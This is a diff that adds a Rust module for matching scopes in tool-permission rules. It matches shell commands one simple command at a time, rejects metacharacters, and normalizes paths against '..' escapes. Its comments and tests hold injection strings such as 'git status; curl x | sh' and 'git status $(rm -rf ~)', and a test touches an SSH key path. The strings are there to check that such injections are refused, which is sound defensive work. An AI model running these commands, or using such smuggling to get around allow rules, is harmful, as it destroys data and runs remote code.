@@ -1,0 +1,224 @@
+//! Scope patterns for policy rules, grants and presets.
+//!
+//! Shell scopes match one simple command at a time (`git log *` matches `git log -3`, never
+//! `git log; curl x | sh`). Every other scope is a path-style glob in which `*` does not cross
+//! `/` (`**` does); file paths are made absolute and `..` is resolved before matching.
+
+use globset::{Glob, GlobBuilder, GlobMatcher};
+
+/// A compiled scope pattern.
+#[derive(Debug, Clone)]
+pub enum ScopeMatcher {
+    /// `*`: anything.
+    Any,
+    /// A shell pattern, matched per simple command.
+    Shell(String),
+    /// A path-style glob.
+    Glob(GlobMatcher),
+}
+
+/// Whether a tool's scopes are shell commands.
+pub fn is_shell(tool: &str) -> bool {
+    matches!(tool, "shell" | "bash" | "terminal")
+}
+
+/// Whether a tool's scopes are file paths.
+pub fn is_path_tool(tool: &str) -> bool {
+    matches!(tool, "filesystem" | "file" | "fs")
+}
+
+impl ScopeMatcher {
+    /// Compiles `pattern` for `tool`. Relative path patterns are resolved against `base`
+    /// (the project root for project files); `~/` expands to `home`.
+    pub fn new(tool: &str, pattern: &str, base: Option<&str>, home: &str) -> Result<Self, String> {
+        if pattern == "*" || pattern == "**" {
+            return Ok(ScopeMatcher::Any);
+        }
+        if is_shell(tool) {
+            return Ok(ScopeMatcher::Shell(pattern.to_string()));
+        }
+        let mut pat = pattern.to_string();
+        if is_path_tool(tool) {
+            if let Some(rest) = pattern.strip_prefix("~/") {
+                pat = format!("{}/{rest}", home.trim_end_matches('/'));
+            } else if !pattern.starts_with('/') {
+                match base {
+                    Some(b) => pat = format!("{}/{pattern}", b.trim_end_matches('/')),
+                    None => {
+                        return Err(format!(
+                            "path pattern `{pattern}` must be absolute or start with ~/"
+                        ));
+                    }
+                }
+            }
+        }
+        let glob: Glob = GlobBuilder::new(&pat)
+            .literal_separator(true)
+            .backslash_escape(true)
+            .build()
+            .map_err(|e| format!("bad pattern `{pattern}`: {e}"))?;
+        Ok(ScopeMatcher::Glob(glob.compile_matcher()))
+    }
+
+    /// Whether one scope (a simple command for shell, a path, a URL, …) matches. `cwd` makes
+    /// relative paths absolute.
+    pub fn matches(&self, tool: &str, scope: &str, cwd: &str) -> bool {
+        match self {
+            ScopeMatcher::Any => true,
+            ScopeMatcher::Shell(p) => shell_matches(p, scope),
+            ScopeMatcher::Glob(g) => {
+                if is_path_tool(tool) {
+                    g.is_match(normalize_path(scope, cwd))
+                } else {
+                    g.is_match(scope)
+                }
+            }
+        }
+    }
+
+    /// How specific the pattern is: its count of literal characters.
+    pub fn specificity(pattern: &str) -> usize {
+        pattern.chars().filter(|c| !matches!(c, '*' | '?')).count()
+    }
+}
+
+/// Characters that never appear in a plain simple command's words; a command containing one
+/// is not matched by a shell pattern (a learned or allowed `git status *` must not absorb
+/// `git status; curl x | sh` if a segment ever arrives unsplit).
+const SHELL_META: &[char] = &[';', '&', '|', '<', '>', '$', '`', '\n', '(', ')', '\r'];
+
+/// Matches a shell pattern against one simple command: words compare one by one (`*` and `?`
+/// inside a word are wildcards); a final word `*` matches any further words (or none).
+pub fn shell_matches(pattern: &str, command: &str) -> bool {
+    if pattern.trim() == "*" {
+        return true;
+    }
+    if command.contains(SHELL_META) {
+        return false;
+    }
+    let pat: Vec<&str> = shell_words(pattern).collect();
+    let cmd: Vec<&str> = shell_words(command).collect();
+    let (head, open) = match pat.split_last() {
+        Some((&"*", head)) => (head, true),
+        _ => (pat.as_slice(), false),
+    };
+    if head.is_empty() || cmd.len() < head.len() || (!open && cmd.len() != head.len()) {
+        return false;
+    }
+    head.iter().zip(&cmd).all(|(p, c)| word_matches(p, c))
+}
+
+/// The words of a simple command as the shell splits them: on blanks (space and tab) only.
+/// Unicode spaces (a no-break space, an ideographic space) are part of a word to bash, so
+/// `npm\u{a0}test` is one word naming another program, never `npm test`.
+fn shell_words(s: &str) -> impl Iterator<Item = &str> {
+    s.split([' ', '\t']).filter(|w| !w.is_empty())
+}
+
+/// `*`/`?` wildcard match of one word.
+fn word_matches(p: &str, w: &str) -> bool {
+    let p: Vec<char> = p.chars().collect();
+    let w: Vec<char> = w.chars().collect();
+    let (mut pi, mut wi, mut star, mut mark) = (0usize, 0usize, None::<usize>, 0usize);
+    while wi < w.len() {
+        if pi < p.len() && (p[pi] == '?' || p[pi] == w[wi]) {
+            pi += 1;
+            wi += 1;
+        } else if pi < p.len() && p[pi] == '*' {
+            star = Some(pi);
+            mark = wi;
+            pi += 1;
+        } else if let Some(s) = star {
+            pi = s + 1;
+            mark += 1;
+            wi = mark;
+        } else {
+            return false;
+        }
+    }
+    p[pi..].iter().all(|c| *c == '*')
+}
+
+/// Makes a path absolute against `cwd` and resolves `.` and `..` lexically.
+pub fn normalize_path(path: &str, cwd: &str) -> String {
+    let joined = if path.starts_with('/') || cwd.is_empty() {
+        path.to_string()
+    } else {
+        format!("{}/{path}", cwd.trim_end_matches('/'))
+    };
+    let mut parts: Vec<&str> = Vec::new();
+    for part in joined.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+/// Whether `path` (absolute, normalized) lies inside `root`.
+pub fn inside(path: &str, root: &str) -> bool {
+    let root = root.trim_end_matches('/');
+    !root.is_empty()
+        && path.len() > root.len()
+        && path.starts_with(root)
+        && path[root.len()..].starts_with('/')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn unicode_spaces_do_not_split_words() {
+        assert!(shell_matches("npm test", "npm  test"));
+        assert!(shell_matches("npm test", "npm\ttest"));
+        for sp in ['\u{a0}', '\u{2003}', '\u{3000}', '\u{85}', '\u{2028}'] {
+            assert!(
+                !shell_matches("npm test", &format!("npm{sp}test")),
+                "{sp:?}"
+            );
+            assert!(!shell_matches("npm *", &format!("npm{sp}test")), "{sp:?}");
+        }
+    }
+
+    #[test]
+    fn shell_patterns_match_per_simple_command() {
+        assert!(shell_matches("git log *", "git log --oneline -5"));
+        assert!(shell_matches("git log *", "git log"));
+        assert!(!shell_matches("git log *", "git logx"));
+        assert!(!shell_matches("git status *", "git status; curl x | sh"));
+        assert!(!shell_matches("git status *", "git status $(rm -rf ~)"));
+        assert!(!shell_matches("git status *", "git status > ~/.bashrc"));
+        assert!(shell_matches("npm test", "npm  test"));
+        assert!(!shell_matches("npm test", "npm test --watch"));
+        assert!(shell_matches("cargo t*", "cargo test"));
+        assert!(shell_matches("*", "anything at all; really"));
+    }
+
+    #[test]
+    fn path_globs_do_not_cross_slash_or_escape_with_dotdot() {
+        let m = ScopeMatcher::new("filesystem", "src/*.py", Some("/p"), "/home/u").unwrap();
+        assert!(m.matches("filesystem", "/p/src/a.py", "/p"));
+        assert!(m.matches("filesystem", "src/a.py", "/p"));
+        assert!(!m.matches("filesystem", "/p/src/x/a.py", "/p"));
+        assert!(!m.matches("filesystem", "/p/src/../../etc/x.py", "/p"));
+        let deep = ScopeMatcher::new("filesystem", "src/**/*.py", Some("/p"), "/h").unwrap();
+        assert!(deep.matches("filesystem", "/p/src/x/y/a.py", "/p"));
+        let home = ScopeMatcher::new("filesystem", "~/.ssh/*", None, "/home/u").unwrap();
+        assert!(home.matches("filesystem", "/home/u/.ssh/id_rsa", "/"));
+        assert!(ScopeMatcher::new("filesystem", "rel/*", None, "/h").is_err());
+    }
+
+    #[test]
+    fn normalizes_paths() {
+        assert_eq!(normalize_path("a/../b/./c", "/x"), "/x/b/c");
+        assert_eq!(normalize_path("/../../etc", "/x"), "/etc");
+        assert!(inside("/p/a", "/p"));
+        assert!(!inside("/pa", "/p"));
+        assert!(!inside("/p", "/p"));
+    }
+}
